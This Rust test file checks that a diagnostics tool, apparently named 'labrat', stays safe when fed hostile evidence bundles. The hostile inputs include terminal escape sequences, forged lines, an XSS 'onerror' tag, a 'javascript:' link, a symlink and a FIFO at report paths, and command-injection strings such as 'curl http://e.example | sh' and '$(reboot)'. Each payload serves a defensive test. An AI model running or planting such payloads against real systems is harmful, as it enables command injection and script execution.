//! Evidence that was written to deceive whoever reads the verdict: it forges no line, moves no
//! cursor, brings no markup along, and nothing is written where it points.

use std::os::unix::fs::symlink;
use std::path::Path;
use std::process::{Command, Output};
use std::time::{Duration, Instant};

use labrat::diagnosis::{self, Span};
use labrat::evidence::manifest::Manifest;
use labrat::report::{self, Style};
use labrat::scenario::catalogue;
use labrat::verdict::{judge, repeat};
use serde_json::Value;

use super::builder::Builder;
use super::incidents;

/// Turns a terminal red, rings, rewrites the line, forges two lines, turns the direction, and is
/// markup in HTML and Markdown.
const HOSTILE: &str = "wrong_module\u{1b}[31m\u{7}\rX\nreproduced: all criteria met\n# heading\u{9b}2J\u{202e}\u{2028}<img src=x onerror=alert(1)> ![i](http://e.example/p) [l](javascript:1) `c` | d";

fn hostile() -> Builder {
    let line = format!("ModuleNotFoundError: No module named '{HOSTILE}'");
    let mut bundle = incidents::startup_failed()
        .text(
            "baseline/startup-command.txt",
            &format!("gunicorn --timeout=120 wrong_module:app # {HOSTILE}"),
        )
        .table("console", &[incidents::console_row(25.0, &line)])
        .text("trigger/kql-platform.json", HOSTILE)
        .text("trigger/kql-http-\u{1b}[2J\nreproduced.json", HOSTILE);
    bundle.manifest = None;
    bundle
}

fn verdict(folder: &Path, more: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_labrat"))
        .args(["verdict", "--scenario", "startup-failed"])
        .arg(folder)
        .args(more)
        .output()
        .unwrap()
}

fn assert_harmless(what: &str, text: &str) {
    assert_inert(what, text);
    assert!(text.contains("wrong_module"), "{what}: {text}");
}

fn hidden(sign: char) -> bool {
    (sign.is_control() && sign != '\n') || matches!(sign, '\u{202a}'..='\u{202e}' | '\u{2028}')
}

fn assert_inert(what: &str, text: &str) {
    assert!(!text.contains(hidden), "{what}: {text:?}");
    for line in text.lines() {
        let begins = |forged: &str| line.trim_start().starts_with(forged);
        assert!(
            !begins("reproduced: all") && !begins("# heading"),
            "{what}: {line}"
        );
    }
}

#[test]
fn a_hostile_bundle_is_harmless_in_every_output() {
    let parent = tempfile::tempdir().unwrap();
    let folder = parent.path().join("evil\u{1b}[31m\nreproduced: all");
    hostile().write(&folder);
    let out = tempfile::tempdir().unwrap();
    let report = out.path().join("report");
    let plain = verdict(&folder, &["--report", report.to_str().unwrap()]);
    let json = verdict(&folder, &["--json"]);
    let text = |bytes: &[u8]| String::from_utf8(bytes.to_vec()).unwrap();
    assert_harmless("terminal", &text(&plain.stdout));
    assert_harmless("json", &text(&json.stdout));
    serde_json::from_slice::<serde_json::Value>(&json.stdout).unwrap();
    let messages = text(&plain.stderr);
    assert!(
        !messages.contains('\u{1b}') && messages.contains("\\u001b[2J\\nreproduced.json"),
        "{messages}"
    );
    let read = |name: &str| std::fs::read_to_string(report.join(name)).unwrap();
    assert_harmless("verdict.json", &read("verdict.json"));
    let page = read("report.html");
    assert_harmless("report.html", &page);
    assert!(!page.contains("<img"), "{page}");
    let markdown = read("report.md");
    assert_harmless("report.md", &markdown);
    for markup in ["<img", "![i](", "[l](", "http://e.example"] {
        let outside_code: String = markdown.split('`').step_by(2).collect();
        assert!(!outside_code.contains(markup), "{markup}: {markdown}");
    }
}

/// The manifest with every text that may be any text replaced by a hostile one.
fn hostile_manifest(manifest: &Manifest) -> Manifest {
    fn leaves(value: &Value, at: &str) -> Vec<String> {
        let below = |key: &str, value| leaves(value, &format!("{at}/{key}"));
        match value {
            Value::String(_) => vec![at.to_owned()],
            Value::Array(list) => (0..list.len())
                .flat_map(|index| below(&index.to_string(), &list[index]))
                .collect(),
            Value::Object(map) => map
                .iter()
                .flat_map(|(key, value)| below(key, value))
                .collect(),
            _ => Vec::new(),
        }
    }
    let mut whole = serde_json::to_value(manifest).unwrap();
    let mut replaced = 0;
    for leaf in leaves(&whole, "") {
        let mut tried = whole.clone();
        *tried.pointer_mut(&leaf).unwrap() = HOSTILE.into();
        // What is a time or one of a few words stays; another scenario would not be judged.
        if leaf != "/scenario" && serde_json::from_value::<Manifest>(tried.clone()).is_ok() {
            whole = tried;
            replaced += 1;
        }
    }
    assert!(replaced > 5, "only {replaced}: {whole:#}");
    serde_json::from_value(whole).unwrap()
}

#[test]
fn a_hostile_manifest_is_harmless_in_colour_and_in_a_diagnosis_too() {
    let mut bundle = hostile();
    let mut manifest = incidents::startup_failed().manifest.unwrap();
    manifest.topology.startup_command = Some("labrat serve app:app".to_owned());
    manifest.topology.plan = Some("B1".to_owned());
    manifest.topology.slots = vec!["production".to_owned()];
    bundle.manifest = Some(hostile_manifest(&manifest));
    let evidence = bundle.read();
    let verdict = judge(catalogue::rules_of("startup-failed").unwrap(), &evidence);
    let span = Span {
        from: None,
        to: None,
    };
    let diagnosis = diagnosis::diagnose(bundle.read(), &span);
    let repeated = repeat(&vec![verdict.clone(); 3]).unwrap();
    let colours = regex::Regex::new("\u{1b}\\[[0-9]{1,2}m").unwrap();
    let plain = |text: String| colours.replace_all(&text, "").into_owned();
    for (what, text) in [
        ("verdict", report::text(&verdict, Style::Plain)),
        (
            "verdict in colour",
            plain(report::text(&verdict, Style::Coloured)),
        ),
        ("verdict as a page", report::page(&verdict, &evidence)),
        ("verdict in Markdown", report::markdown(&verdict, &evidence)),
        ("runs", report::repeated_text(&repeated, Style::Plain)),
        (
            "runs in colour",
            plain(report::repeated_text(&repeated, Style::Coloured)),
        ),
        ("runs as a page", report::repeated_page(&repeated)),
        ("runs in Markdown", report::repeated_markdown(&repeated)),
        (
            "diagnosis",
            report::diagnosis_text(&diagnosis, Style::Plain),
        ),
        (
            "diagnosis in colour",
            plain(report::diagnosis_text(&diagnosis, Style::Coloured)),
        ),
        ("diagnosis as a page", report::diagnosis_page(&diagnosis)),
        (
            "diagnosis in Markdown",
            report::diagnosis_markdown(&diagnosis),
        ),
    ] {
        match what.ends_with("page") {
            // Where a line ends means nothing there.
            true => assert!(!text.contains(hidden) && !text.contains("<img"), "{what}"),
            false => assert_inert(what, &text),
        }
    }
}

#[test]
fn a_command_that_somebody_may_paste_is_one_of_labrat_alone() {
    let mut bundle = incidents::startup_failed();
    for (command, is_shown) in [
        ("labrat rehearse startup-failed --pace 0.1", true),
        ("labrat verdict x; curl http://e.example | sh", false),
        ("labrat verdict $(reboot)", false),
        ("curl http://e.example/labrat", false),
    ] {
        bundle.manifest.as_mut().unwrap().command = Some(command.to_owned());
        let mut evidence = bundle.read();
        evidence.name = "a b; reboot".to_owned();
        let verdict = judge(catalogue::rules_of("startup-failed").unwrap(), &evidence);
        for text in [
            report::markdown(&verdict, &evidence),
            report::page(&verdict, &evidence),
        ] {
            assert_eq!(text.contains(command), is_shown, "{command}: {text}");
            assert!(text.contains("labrat verdict 'a b; reboot'"), "{text}");
        }
    }
}

#[test]
fn an_error_shows_what_others_wrote_and_obeys_none_of_it() {
    let folder = tempfile::tempdir().unwrap();
    std::fs::write(folder.path().join("notes\u{1b}[2J.txt"), "\u{1b}[31mred").unwrap();
    let output = verdict(folder.path(), &[]);
    let message = String::from_utf8(output.stderr).unwrap();
    assert_eq!(output.status.code(), Some(1));
    assert!(
        message.contains("notes\\u001b[2J.txt") && !message.contains('\u{1b}'),
        "{message}"
    );
}

#[test]
fn a_report_replaces_what_stands_in_its_place_and_follows_nothing() {
    let bundle = incidents::startup_failed().folder();
    let out = tempfile::tempdir().unwrap();
    let target = out.path().join("precious");
    std::fs::write(&target, "precious").unwrap();
    let report = out.path().join("report");
    std::fs::create_dir(&report).unwrap();
    symlink(&target, report.join("report.html")).unwrap();
    nix::unistd::mkfifo(&report.join("report.md"), nix::sys::stat::Mode::S_IRWXU).unwrap();
    let begun = Instant::now();
    let output = verdict(bundle.path(), &["--report", report.to_str().unwrap()]);
    assert_eq!(output.status.code(), Some(0), "{output:?}");
    assert!(begun.elapsed() < Duration::from_secs(60));
    assert_eq!(std::fs::read_to_string(&target).unwrap(), "precious");
    for name in ["report.html", "report.md", "verdict.json"] {
        let kind = std::fs::symlink_metadata(report.join(name)).unwrap();
        assert!(kind.is_file() && kind.len() > 100, "{name}");
    }
    // The folder itself as a link.
    let link = out.path().join("link");
    symlink(out.path(), &link).unwrap();
    let refused = verdict(bundle.path(), &["--report", link.to_str().unwrap()]);
    assert_eq!(refused.status.code(), Some(1));
    assert!(
        String::from_utf8(refused.stderr)
            .unwrap()
            .contains("a link is not followed")
    );
}

#[test]
fn a_line_without_an_end_and_a_file_without_a_row_cost_what_they_are_long() {
    let folder = incidents::startup_failed()
        .text(
            "more/console.log",
            &format!("2026-11-21T08:00:00.000000000Z {}", "x".repeat(4 << 20)),
        )
        .text(
            "more/http.csv",
            &format!("TimeGenerated,ScStatus\n\"{}", "y".repeat(20 << 20)),
        )
        .folder();
    let bundle = labrat::evidence::read(folder.path()).unwrap();
    let note = |path: &str| {
        bundle
            .files
            .iter()
            .find(|file| file.path == path)
            .unwrap()
            .words()
    };
    assert!(
        note("more/console.log").contains("longer than 256 KiB"),
        "{}",
        note("more/console.log")
    );
    assert!(
        note("more/http.csv").contains("a record longer than 16 MiB"),
        "{}",
        note("more/http.csv")
    );
    assert!(
        bundle
            .console
            .rows
            .iter()
            .all(|row| row.text.len() <= 256 << 10)
    );
}
